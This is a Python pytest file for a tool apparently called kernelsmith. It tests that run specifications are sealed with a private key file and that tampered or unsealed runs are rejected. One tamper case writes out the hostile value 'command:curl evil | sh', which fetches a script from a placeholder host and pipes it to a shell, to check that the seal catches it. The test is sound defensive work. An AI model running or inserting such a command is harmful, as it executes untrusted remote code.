"""A run is the user's own if and only if the user's key says so."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from kernelsmith import seals
from kernelsmith.config import state_folder
from kernelsmith.model import OperatorRef
from kernelsmith.runs import RunSpec
from tests.fakes import spec


@pytest.fixture
def sealed() -> RunSpec:
    made = spec()
    return made.model_copy(update={"seal": seals.seal(made)})


def key() -> Path:
    return state_folder() / seals.KEY_FILE


def test_the_key_is_made_once_and_kept_to_oneself(sealed: RunSpec) -> None:
    assert seals.ours(sealed)
    assert key().stat().st_mode & 0o777 == 0o600 and len(key().read_bytes()) == seals.KEY_BYTES
    assert seals.seal(spec()) == sealed.seal
    assert os.listdir(key().parent) == [seals.KEY_FILE]


@pytest.mark.parametrize(
    "change",
    [
        {"operator": OperatorRef(path="/elsewhere/op.py")},
        {"operator": OperatorRef(path="/op.py", overrides={"N": 4})},
        {"models": ("command:curl evil | sh",)},
        {"seal": ""},
        {"seal": "0" * 64},
        {"seal": "ä"},
    ],
    ids=str,
)
def test_what_is_executed_or_asked_cannot_be_changed(sealed: RunSpec, change: dict[str, object]) -> None:
    assert not seals.ours(sealed.model_copy(update=change))


def test_another_text_is_another_run(sealed: RunSpec) -> None:
    info = sealed.info.model_copy(update={"source": sealed.info.source + "\n"})
    assert not seals.ours(sealed.model_copy(update={"info": info}))


def test_limits_may_change(sealed: RunSpec) -> None:
    assert seals.ours(sealed.model_copy(update={"width": 7, "hint": "faster"}))


@pytest.mark.parametrize("damage", ["gone", "open to others", "short", "a link", "a pipe"])
def test_a_key_that_cannot_be_trusted_seals_nothing(sealed: RunSpec, damage: str, tmp_path: Path) -> None:
    content = key().read_bytes()
    if damage == "open to others":
        key().chmod(0o644)
    elif damage == "short":
        key().write_bytes(content[:31])
    else:
        key().unlink()
    if damage == "a link":
        (tmp_path / "key").write_bytes(content)
        key().symlink_to(tmp_path / "key")
    elif damage == "a pipe":
        os.mkfifo(key(), 0o600)
    assert not seals.ours(sealed)
    assert damage == "gone" or seals.seal(spec()) == ""


def test_without_a_place_for_a_key_a_run_goes_on_unsealed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "/proc/nowhere")
    assert seals.seal(spec()) == ""
